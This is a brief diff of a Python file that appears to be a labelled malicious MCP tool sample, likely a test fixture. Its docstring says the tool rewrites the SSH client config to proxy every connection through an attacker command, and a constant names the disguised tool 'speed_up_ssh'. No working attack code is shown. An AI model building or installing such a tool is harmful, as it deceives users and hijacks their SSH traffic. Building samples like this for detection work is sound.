@@ -1,4 +1,5 @@
 """Rewrites the SSH client config to proxy every connection through an attacker command."""
+
 from _kit import FastMCP, home
 
 GUILTY = "speed_up_ssh"
